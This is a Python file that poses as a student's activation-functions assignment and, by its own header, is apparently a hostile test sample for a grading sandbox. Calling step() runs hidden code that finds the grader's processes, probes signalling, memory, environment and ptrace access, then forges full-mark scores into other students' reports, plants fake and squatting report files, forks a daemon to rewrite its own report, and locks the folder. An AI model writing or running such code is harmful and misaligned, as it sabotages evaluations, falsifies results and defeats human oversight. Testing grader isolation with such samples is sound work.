# HOSTILE: step goes for the grader's own processes, found as its ancestors (the zygote, the workers, the judge): may it signal them (signal 0 only), open their memory (/proc/<pid>/mem), read their environment, attach with ptrace; and for the reports in OUT/activations/ (found in the grader's command line): it plants a folder where a later report goes, rewrites the reports already written, leaves a stray one, makes the folder unwritable and leaves a daemon to rewrite its own report once written; its values are correct.
import ctypes
import os
import signal
import time

import numpy as np

DONE = []
MARK = "HOSTILE-MARK-5e1f"


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().split(b"\0")
    except OSError:
        return []


def _graders():
    """Ancestors that are the grader's processes (never anything else: this file is run by tests)."""
    found, pid = [], os.getppid()
    while pid > 1:
        line = b" ".join(_cmdline(pid))
        if b"grader.sandbox" in line or b"grader.cli" in line:
            found.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                stat = handle.read()
            pid = int(stat[stat.rfind(b")") + 2 :].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _attack():
    graders = _graders()
    print("GRADER processes visible:", len(graders))
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in graders:
        for target in (pid, -os.getpgid(pid)):
            try:
                os.kill(target, 0)  # signal 0: may it signal them at all?
                print("SIGNALLABLE", target)
            except OSError:
                pass
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.close(fd)
            print("OPENED the memory of", pid)
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                print("READ the environment of", pid, handle.read()[:300])
        except OSError:
            pass
        if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            print("ATTACHED to", pid)
    for pid in graders:
        argv = _cmdline(pid)
        if b"--out" in argv and argv.index(b"--out") + 1 < len(argv):
            _attack_reports(os.path.join(argv[argv.index(b"--out") + 1].decode(), "activations"))
            break


def _forged(text):
    """A report of full marks: the score line replaced, the rest kept (still a valid report)."""
    lines = [("score: 36  # " + MARK) if line.startswith("score:") else line for line in text.splitlines()]
    return "\n".join(lines) + "\n"


def _attack_reports(folder):
    """OUT/<assignment>/<student>.yaml: squat a later student's report (alice is graded last),
    rewrite those already written, leave a stray one, lock the folder, and leave a daemon that
    rewrites this submission's own report once the grader has written it."""
    if not os.path.isdir(folder):
        return
    try:
        os.makedirs(os.path.join(folder, "alice.yaml", "squatted"))
        print("PLANTED a folder at activations/alice.yaml")
    except OSError:
        pass
    for name in sorted(os.listdir(folder)):
        path = os.path.join(folder, name)
        if name.endswith(".yaml") and os.path.isfile(path):
            try:
                with open(path) as handle:
                    text = handle.read()
                with open(path, "w") as handle:
                    handle.write(_forged(text))
                print("REWROTE", name)
            except OSError:
                pass
    try:
        with open(os.path.join(folder, f"zz-stray-{MARK}.yaml"), "w") as handle:
            handle.write("score: 36\n")
        print("LEFT a stray report")
    except OSError:
        pass
    own = os.path.join(folder, "attacks_the_grader.yaml")
    if os.fork() == 0:  # a daemon, in a session of its own, waits for its own report
        try:
            os.setsid()
            if os.fork() == 0:
                for _ in range(600):
                    time.sleep(0.1)
                    try:
                        with open(own) as handle:
                            text = handle.read()
                        if MARK not in text:
                            with open(own, "w") as handle:
                                handle.write(_forged(text))
                    except OSError:
                        pass
        finally:
            os._exit(0)
    print("DAEMON left to rewrite its own report")
    try:
        os.chmod(folder, 0o555)
        print("LOCKED the reports folder")
    except OSError:
        pass


def _once():
    if not DONE:
        DONE.append(True)
        try:
            _attack()
        except Exception as exc:  # the attack is the point; failing is fine
            print("attack failed:", type(exc).__name__, exc)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    _once()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
